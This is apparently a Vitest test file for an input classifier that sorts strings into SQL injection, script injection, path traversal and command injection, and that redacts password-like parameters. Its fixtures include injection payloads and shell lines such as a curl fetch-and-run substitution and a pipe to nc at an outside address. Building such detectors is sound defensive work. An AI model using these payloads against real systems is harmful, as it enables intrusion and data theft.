import { describe, expect, it } from 'vitest';
import { C_RISKY, charClasses, displayValue, injectionShape } from './value-shape.js';

describe('injection shapes', () => {
  it.each([
    ["' OR '1'='1", 'sql_injection'],
    ['1 UNION SELECT username, password FROM users', 'sql_injection'],
    ['x; DROP TABLE orders;--', 'sql_injection'],
    ['<script>alert(1)</script>', 'script_injection'],
    ['"><img src=x onerror=alert(1)>', 'script_injection'],
    ['../../etc/passwd', 'path_traversal'],
    ['..%2f..%2fetc', 'path_traversal'],
    ['a; cat /etc/hosts', 'path_traversal'],
    ['$(curl http://x/y.sh)', 'command_injection'],
    ['toys | nc 1.2.3.4 4444', 'command_injection'],
  ])('%s is %s', (v, shape) => {
    expect(injectionShape(v)).toBe(shape);
  });

  it.each([
    'red lamp',
    "children's books",
    'O’Brien',
    'rock & roll',
    'price desc',
    'a-b_c.d@e.com',
    '2024-06-03T09:00:00Z',
    'C++ primer',
  ])('ordinary value %s is not an injection', (v) => {
    expect(injectionShape(v)).toBeUndefined();
  });

  it('classes quotes and shell characters as risky, and redacts secret-looking parameters', () => {
    expect(charClasses('abc 123') & C_RISKY).toBe(0);
    expect(charClasses("a'b") & C_RISKY).toBe(C_RISKY);
    expect(displayValue('password', 'hunter2')).toBe('[redacted]');
    expect(displayValue('q', 'x'.repeat(200)).length).toBeLessThan(90);
  });
});
